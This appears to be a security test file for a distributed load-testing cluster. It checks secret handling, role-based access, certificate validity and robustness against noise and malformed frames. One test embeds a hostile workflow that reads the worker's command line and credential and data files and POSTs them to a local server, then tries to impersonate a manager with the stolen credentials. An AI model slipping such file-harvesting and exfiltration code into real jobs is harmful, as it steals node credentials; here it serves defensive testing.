// Goal: a cluster of real processes lets in who proves to be of it, as what it is, and nobody else; secrets of jobs are
// nowhere in clear; and nothing a stranger or a member sends ends a node. Method: the built executable with keys and
// credentials that its own commands made; attackers that speak TLS, plain text and noise, with what a workflow found on
// its worker; every file of every node searched.

import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { chmodSync, readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { createPrng, nextBelow, nextU32 } from "../../src/base/prng.ts";
import { createClock } from "../../src/io/clock.ts";
import { createWorld } from "../../src/io/real-world.ts";
import { createLog } from "../../src/io/log.ts";
import { netErrorCode } from "../../src/io/net-error.ts";
import { readCredentialFile } from "../../src/io/security/credential-file.ts";
import { type Credentials, issueCredentials, selfIssue } from "../../src/io/security/credentials.ts";
import { readKeyFile } from "../../src/io/security/key-file.ts";
import { secureWorld } from "../../src/io/security/secure-world.ts";
import { createTlsStreams } from "../../src/io/security/tls.ts";
import type { Connection } from "../../src/io/world.ts";
import type { JobResult } from "../../src/load/result.ts";
import { openClient } from "../../src/node/client.ts";
import type { ClusterClient } from "../../src/node/cluster-client.ts";
import { type NodeMessage, nodeProtocol } from "../../src/node/protocol.ts";
import { type ChannelEnd, openChannel } from "../../src/wire/channel.ts";
import { encode } from "../../src/wire/codec.ts";
import { encodeFrame } from "../../src/wire/frame.ts";
import { type Hello, PROTOCOL_MAJOR, PROTOCOL_MINOR } from "../../src/wire/handshake.ts";
import { BUNDLE, jobPlan } from "../node/plans.ts";
import { freePorts } from "./cluster.ts";
import { expectAlive, type Keys, makeKeys, manager, worker } from "./keyed.ts";
import { executable, freshDir, removeDirs, run, submitArgs } from "./run.ts";

setDefaultTimeout(60_000);
afterAll(removeDirs);

const clock = createClock();

let keys: Keys;
let foreign: Keys;
beforeAll(async () => {
  await executable();
  [keys, foreign] = await Promise.all([makeKeys(), makeKeys()]);
});

const filesUnder = (path: string): readonly string[] =>
  statSync(path).isDirectory() ? readdirSync(path).flatMap((name) => filesUnder(join(path, name))) : [path];

/** Files below these folders that hold the text. */
const holding = (text: string, ...folders: readonly string[]): readonly string[] =>
  folders.flatMap(filesUnder).filter((path) => readFileSync(path).includes(text));

describe("secrets of a job", () => {
  const SECRETS = { env: "env-secret-5f1c9a", setup: "setup-secret-77ab02", provided: "provided-secret-e0914d" };

  test.concurrent(
    "-e values, setup data and values provided are in no file, log, status or argv of a node",
    async () => {
      const seen: string[] = [];
      using server = Bun.serve({
        port: 0,
        fetch: async (request) => (seen.push(await request.text()), new Response("ok")),
      });
      await using at = await manager(keys);
      const node = await worker(at, ["--credentials", keys.worker]);
      const source = `
      import { defineJob, workflow } from "hyperscale";
      const say = (http, text) => http.post("http://127.0.0.1:${server.port}/", text);
      export default defineJob({
        name: "searched-for-9b3e",
        setup: () => ({ token: "setup-" + "secret-77ab02" }),
        workflows: {
          first: workflow({ vus: 1, iterations: 1, async run({ http, env, provide }, data) {
            provide("token", "provided-" + "secret-e0914d");
            await say(http, env.TOKEN + " " + data.token);
          } }),
          // Longer than the time between two checkpoints.
          second: workflow({ after: ["first"], vus: 1, duration: "6s", async run({ http, context, sleep }) {
            await say(http, context.token);
            await sleep(0.5);
          } }),
        },
      });`;
      const args = ["test.ts", "-e", `TOKEN=${SECRETS.env}`, "--credentials", keys.client];
      const ended = await submitArgs([...args, "--managers", `127.0.0.1:${at.port}`], { files: { "test.ts": source } });
      expect(ended.exitCode, ended.output).toBe(0);
      // They came to where they are used ...
      expect(seen[0]).toBe(`${SECRETS.env} ${SECRETS.setup}`);
      expect(seen).toContain(SECRETS.provided);
      const id = ended.summary?.job.id ?? "";
      const told = await Promise.all(
        [
          ["status", "--json"],
          ["jobs", "--json"],
          ["results", id, "--json"],
        ].map((command) => run([...command, "--managers", `127.0.0.1:${at.port}`, "--credentials", keys.client])),
      );
      // Who may read results is not told what the test was given.
      const plan = JSON.stringify((await resultOf(at.port, id)).plan);
      expect(plan).toContain("searched-for-9b3e");
      const argv = Buffer.concat([at.node, node].map(({ pid }) => readFileSync(`/proc/${pid}/cmdline`))).toString();
      expect(await node.end("SIGTERM")).toBe(0);
      expect(await at.node.end("SIGTERM")).toBe(0);
      const said = [plan, at.node.said, node.said, argv, ...told.map(({ output }) => output)].join("\n");
      // ... and the search finds what is there: the job's id in the log, and the manager's blobs.
      expect(holding(id, join(at.dir, "m0")).length).toBeGreaterThan(0);
      const kept = filesUnder(join(at.dir, "m0", "blobs")).map((path) => statSync(path).size);
      expect(kept.reduce((sum, bytes) => sum + bytes, 0)).toBeGreaterThan(2_000);
      for (const secret of Object.values(SECRETS)) {
        expect(holding(secret, at.dir)).toEqual([]);
        expect(holding(Buffer.from(secret).toString("base64").slice(2, -4), at.dir)).toEqual([]);
        expect(said).not.toContain(secret);
      }
      // What the plan and the code say besides is as little in clear.
      expect(holding("searched-for-9b3e", join(at.dir, "m0"))).toEqual([]);
    },
  );
});

/** With these credentials, past what the command line looks at itself. */
function clientOf(port: number, credentials: Credentials): Promise<ClusterClient> {
  const log = createLog({ level: "error", color: false, line: () => {} });
  const { world } = secureWorld({ ...createWorld(), log }, credentials);
  return openClient({ world, managers: [{ host: "127.0.0.1", port }], environment: "default" });
}

/** A job's result as any client gets it. */
async function resultOf(port: number, id: string): Promise<JobResult> {
  const client = await clientOf(port, await readCredentialFile(keys.client));
  return client.follow(id, () => {}).result.finally(() => client.close());
}

// ── members that are not what they say ──────────────────────────────────────────────────────────

const helloOf = (role: Hello["role"], more: Partial<Hello> = {}): Hello => ({
  cluster: null,
  environment: "default",
  role,
  node: "00000000000000aa",
  boot: "1-00000000",
  address: { host: "127.0.0.1", udp: 1, tcp: 1 },
  major: PROTOCOL_MAJOR,
  minor: PROTOCOL_MINOR,
  features: [],
  ...more,
});

const connectTo = (port: number, credentials: Credentials): Promise<Connection> =>
  createTlsStreams({ credentials, clock }).connect({ host: "127.0.0.1", port }, { timeoutMs: 5_000 });

/** How a channel with that hello ends; `open`: it was taken, and stays. */
async function greet(port: number, credentials: Credentials, hello: Hello): Promise<ChannelEnd["reason"] | "open"> {
  const connection = await connectTo(port, credentials);
  const channel = openChannel(connection, { clock, hello, protocol: nodeProtocol, isDialler: true, timeoutMs: 5_000 });
  const { promise, resolve } = Promise.withResolvers<ChannelEnd["reason"] | "open">();
  channel.onClose(({ reason }) => resolve(reason));
  // The hello of the other side comes before it has judged ours: the answer to a question shows that it took us.
  channel.onOpen(() => channel.send({ kind: "toDesk", body: { kind: "status", ask: 1 } }));
  channel.onMessage(() => resolve("open"));
  const end = await promise;
  channel.close();
  return end;
}

describe("a workflow that reads every file of its worker", () => {
  test.concurrent("[LD-41.23.2] cannot pass as a manager or a client, nor say what only they may", async () => {
    const found: string[] = [];
    using server = Bun.serve({
      port: 0,
      fetch: async (request) => (found.push(await request.text()), new Response("ok")),
    });
    await using at = await manager(keys);
    const node = await worker(at, ["--credentials", keys.worker]);
    const source = `
      import { readFileSync, readdirSync, statSync } from "node:fs";
      const files = (path) => statSync(path).isDirectory() ? readdirSync(path).flatMap((name) => files(path + "/" + name)) : [path];
      export const options = { iterations: 1 };
      export default async ({ http }) => {
        const argv = readFileSync("/proc/self/cmdline", "utf8").split("\\0");
        const named = (option) => argv[argv.indexOf(option) + 1];
        const all = [named("--credentials"), ...files(named("--data"))];
        await http.post("http://127.0.0.1:${server.port}/", JSON.stringify(all.map((path) => [path, readFileSync(path, "utf8")])));
      };`;
    const ended = await submitArgs(["test.ts", "--credentials", keys.client, "--managers", `127.0.0.1:${at.port}`], {
      files: { "test.ts": source },
    });
    expect(ended.exitCode, ended.output).toBe(0);
    expect(found).toHaveLength(1);
    const files = new Map<string, string>(JSON.parse(found[0] ?? "[]"));
    expect([...files.keys()].some((path) => path.endsWith("node.json"))).toBe(true);
    // No key in any of them.
    for (const text of files.values()) expect(text).not.toContain("hyperscale-key-1:");
    const stolen = join(freshDir(), "stolen");
    await Bun.write(stolen, files.get(keys.worker) ?? "");
    chmodSync(stolen, 0o600);

    const [port = 0] = await freePorts(1);
    const started = await run(["manager", "--tcp", String(port), "--data", freshDir(), "--credentials", stolen]);
    expect(started.exitCode).toBe(104);
    expect(started.stderr).toContain("is for a worker of cluster");
    expect(started.stderr).toContain("and this is a manager");

    const credentials = await readCredentialFile(stolen);
    expect(credentials.valueKeys).toEqual([]);
    for (const role of ["manager", "client", "gate"] as const)
      expect(await greet(at.port, credentials, helloOf(role))).not.toBe("open");
    await at.node.until(/it says it is a manager, and its certificate is for a worker/);
    await at.node.until(/it says it is a client, and its certificate is for a worker/);

    // As the worker it is, it may say what workers say, and that alone.
    const connection = await connectTo(at.port, credentials);
    const options = { clock, hello: helloOf("worker"), protocol: nodeProtocol, isDialler: true, timeoutMs: 5_000 };
    const channel = openChannel(connection, options);
    const opened = Promise.withResolvers<void>();
    channel.onOpen(() => opened.resolve());
    await opened.promise;
    const heard: NodeMessage[] = [];
    channel.onMessage((message) => heard.push(message));
    channel.send({ kind: "toDesk", body: { kind: "status", ask: 1 } });
    channel.send({ kind: "raft", body: { kind: "timeoutNow", cluster: "x", term: 2 ** 40 } });
    await at.node.until(/a worker may not say "raft" to a manager: dropped/);
    channel.close();
    expect(heard.filter(({ kind }) => kind === "fromDesk")).toEqual([]);
    expect(await node.end("SIGTERM")).toBe(0);
    await expectAlive(keys, at);
  });
});

describe("a client", () => {
  test.concurrent("does not change who the managers are: an operator does, and a holder of the key", async () => {
    await using at = await manager(keys);
    const remove = ["peer", "remove", `127.0.0.1:${at.port}`, "--managers", `127.0.0.1:${at.port}`];
    const refused = await run([...remove, "--credentials", keys.client]);
    expect(refused.exitCode).toBe(104);
    for (const word of ["is for a client", "only an operator may do this", "key issue --role operator"])
      expect(refused.stderr).toContain(word);
    const client = await clientOf(at.port, await readCredentialFile(keys.client));
    const asked = client.change({ kind: "remove", node: "0".repeat(16) }, 0);
    expect(await asked.catch(String)).toMatch(/only an operator may change who the managers are, and this is a client/);
    client.close();
    for (const security of [
      ["--credentials", keys.operator],
      ["--key-file", keys.key],
    ]) {
      // As far as the leader, which has a reason of its own.
      const ended = await run([...remove, ...security]);
      expect(ended.stderr).toContain("is the only manager");
      expect(ended.exitCode).toBe(75);
      const listed = await run(["peer", "list", "--managers", `127.0.0.1:${at.port}`, ...security]);
      expect(listed.exitCode, listed.stderr).toBe(0);
    }
    await expectAlive(keys, at);
  });

  test.concurrent(
    "[LD-41.18.1] is whoever uses the same credentials: another connection is no other client",
    async () => {
      await using at = await manager(keys, ["--submit-rate", "1/s"]);
      const credentials = await readCredentialFile(keys.client);
      const submission = { plan: jobPlan(), bundle: BUNDLE, retries: 0 };
      const beganAt = clock.nowMs();
      const spans: number[] = [];
      for (const id of ["a", "b", "c", "d"]) {
        const client = await clientOf(at.port, credentials);
        await client.hand(id, submission);
        client.close();
        spans.push(clock.nowMs() - beganAt);
      }
      // Two at once, then one a second.
      expect(spans[3]).toBeGreaterThan(1_900);
      await expectAlive(keys, at);
    },
  );
});

describe("a node stays, and says both sides' values, when", () => {
  test.concurrent("a worker has the key of another cluster", async () => {
    await using at = await manager(keys);
    const node = await worker(at, ["--credentials", foreign.worker]);
    const ids = await Promise.all([keys, foreign].map(async ({ key }) => (await run(["key", "show", key])).stdout));
    const [own = "?", other = "?"] = ids.map((text) => /cluster ([0-9a-f]{16})/.exec(text)?.[1]);
    // The worker sees first that it is the wrong one; managers hear its datagrams.
    await node.until(new RegExp(`${own}[^]*not signed by an authority that is believed here[^]*${other}`));
    await at.node.until(/a datagram from .* was dropped: it is under a key that this node does not have/);
    await node.end("SIGKILL");
    await expectAlive(keys, at);
  });

  test.concurrent("a client has none, or that of another cluster: it hears so at once", async () => {
    await using at = await manager(keys);
    const asked = ["jobs", "--managers", `127.0.0.1:${at.port}`];
    const without = await run(asked);
    expect(without.exitCode).toBe(75);
    for (const word of ["no node takes this client", `127.0.0.1:${at.port}`, "without credentials", "--credentials"])
      expect(without.stderr).toContain(word);
    const wrong = await run([...asked, "--credentials", foreign.client]);
    expect(wrong.exitCode).toBe(75);
    expect(wrong.stderr).toMatch(/cluster [0-9a-f]{16}/);
    const elsewhere = await run([...asked, "--credentials", keys.client, "--environment", "blue"]);
    expect(elsewhere.exitCode).toBe(75);
    for (const word of ['"blue"', '"default"']) expect(elsewhere.stderr).toContain(word);
    expect(Math.max(without.durationMs, wrong.durationMs, elsewhere.durationMs)).toBeLessThan(9_000);
    await expectAlive(keys, at);
  });

  test.concurrent("a peer's certificate has expired, or begins only later", async () => {
    await using at = await manager(keys);
    const ring = await readKeyFile(keys.key);
    const day = 86_400_000;
    for (const [epochMs, words] of [
      [Date.now() - 10 * day, "expired at"],
      [Date.now() + 10 * day, "is valid from"],
    ] as const) {
      const credentials = issueCredentials({ keys: ring, role: "worker", node: null, epochMs, lifeMs: day });
      const failed = await connectTo(at.port, credentials).then(() => null, netErrorCode);
      expect(failed).toBe("denied");
      await at.node.until(new RegExp(`${words} 20..-.*the clock here says 20..-`));
    }
    await expectAlive(keys, at);
  });

  test.concurrent("plain text, half a handshake and noise come to its ports", async () => {
    await using at = await manager(keys);
    const prng = createPrng(1, "noise");
    const noise = (length: number): Uint8Array => Uint8Array.from({ length }, () => nextU32(prng) & 0xff);
    const hello = encodeFrame({ lane: "critical", tag: 0, payload: encode(helloOf("manager")) });
    const texts = [new TextEncoder().encode("GET / HTTP/1.1\r\nhost: x\r\n\r\n"), hello, new Uint8Array(1)];
    for (let round = 0; round < 60; round++) {
      const bytes = texts[round] ?? noise(1 + nextBelow(prng, 2_000));
      await plainly(at.port, bytes);
    }
    const socket = await Bun.udpSocket({ hostname: "127.0.0.1" });
    for (let round = 0; round < 60; round++) socket.send(noise(1 + nextBelow(prng, 1_400)), at.port + 1, "127.0.0.1");
    await at.node.until(/a datagram from 127.0.0.1:\d+ was dropped: it is not sealed/);
    socket.close();
    await at.node.until(/a connection from 127.0.0.1 was refused: .*speaks no TLS/);
    // Strangers do not fill its log.
    expect(at.node.said.split("\n").filter((line) => /was refused|was dropped/.test(line)).length).toBeLessThan(30);
    await expectAlive(keys, at);
  });

  test.concurrent("members send frames that are none, mutated ones, and too long ones", async () => {
    await using at = await manager(keys);
    const ring = await readKeyFile(keys.key);
    const prng = createPrng(2, "mutations");
    for (const role of ["worker", "client", "manager"] as const) {
      const credentials = selfIssue({ keys: ring, role, node: null, epochMs: Date.now() });
      for (let round = 0; round < 40; round++) {
        const connection = await connectTo(at.port, credentials);
        const gone = Promise.withResolvers<void>();
        connection.handle({ onBytes: () => {}, onDrain: () => {}, onClose: () => gone.resolve() });
        const greeting = encodeFrame({ lane: "critical", tag: 0, payload: encode(helloOf(role)) });
        connection.write(round % 4 === 0 ? mutated(prng, greeting) : greeting);
        for (let frame = 0; frame < 20; frame++) connection.write(badFrame(prng, frame));
        connection.end();
        await gone.promise;
      }
    }
    await expectAlive(keys, at);
  });
});

/** Sends it in clear and waits for the end of the connection. */
async function plainly(port: number, bytes: Uint8Array): Promise<void> {
  const gone = Promise.withResolvers<void>();
  const socket = await Bun.connect({
    hostname: "127.0.0.1",
    port,
    socket: { data: () => {}, close: () => gone.resolve(), error: () => gone.resolve() },
  });
  socket.write(bytes);
  socket.flush();
  socket.end();
  await gone.promise;
}

const KINDS = [10, 11, 12, 13, 14, 15, 16, 17, 18, 30, 31, 32, 33, 34, 35, 36, 40, 9, 5];

function badFrame(prng: ReturnType<typeof createPrng>, round: number): Uint8Array {
  const tag = KINDS[nextBelow(prng, KINDS.length)] ?? 10;
  const payload = Uint8Array.from({ length: nextBelow(prng, 300) }, () => nextU32(prng) & 0xff);
  const values = [null, [], {}, { kind: "submit", ask: -1 }, { kind: "renew", attempts: "x" }, { term: 2 ** 53 }, "x"];
  if (round < 6) return encodeFrame({ lane: "control", tag, payload });
  if (round < 18) return encodeFrame({ lane: "submit", tag, payload: encode(values[nextBelow(prng, values.length)]) });
  // A length that no frame has, last: nothing after it is read.
  return Uint8Array.of(0xff, 0xff, 0xff, round === 18 ? 0x7f : 0xff, 0, tag, 0, ...payload);
}

function mutated(prng: ReturnType<typeof createPrng>, bytes: Uint8Array): Uint8Array {
  const copy = bytes.slice();
  for (let change = 0; change < 3; change++) copy[nextBelow(prng, copy.length)] = nextU32(prng) & 0xff;
  return copy;
}
